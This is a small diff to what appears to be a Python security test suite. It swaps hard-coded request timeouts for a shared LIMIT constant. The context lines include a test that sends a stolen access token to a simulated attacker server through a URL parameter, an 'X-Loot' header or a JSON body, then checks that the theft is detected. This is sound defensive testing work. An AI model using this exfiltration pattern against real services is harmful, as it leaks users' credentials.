@@ -18,6 +18,7 @@ from tests.attacks import subjects, table
 from tests.attacks.evil import running_evil
 from tests.attacks.harness import LIBRARY, Scene
 from tests.dev.visitor import CALLBACK, SITE, Login, Visitor, redeem, sign_in
+from tests.waiting import LIMIT
 
 pytestmark = pytest.mark.full("the tests' own tools")
 ATTACKS = sorted(path.stem for path in Path(__file__).parent.glob("[a-z]*_*.py") if path.stem[:5] != "test_")
@@ -74,7 +75,7 @@ def test_a_token_that_reached_the_attackers_server_is_found(scene, evil, way):
     url = f"{evil.url}/x" + (f"?t={quote(TOKEN)}" if way == "url" else "")
     headers = {"X-Loot": TOKEN} if way == "header" else {}
     body = json.dumps({"loot": TOKEN}).encode() if way == "body" else None
-    urllib.request.urlopen(urllib.request.Request(url, body, headers), timeout=10).close()
+    urllib.request.urlopen(urllib.request.Request(url, body, headers), timeout=LIMIT).close()
     assert evil.wait("/x")
     assert scene.outcome().stolen == ("access_token (whole)",)
 
@@ -183,7 +184,9 @@ def ours():
 def get(url, cookie=""):
     """Return (status, text, policy) of an answer."""
     try:
-        answer = urllib.request.urlopen(urllib.request.Request(url, headers={"Cookie": cookie}), timeout=10)
+        answer = urllib.request.urlopen(
+            urllib.request.Request(url, headers={"Cookie": cookie}), timeout=LIMIT
+        )
     except HTTPError as error:
         answer = error
     with answer:
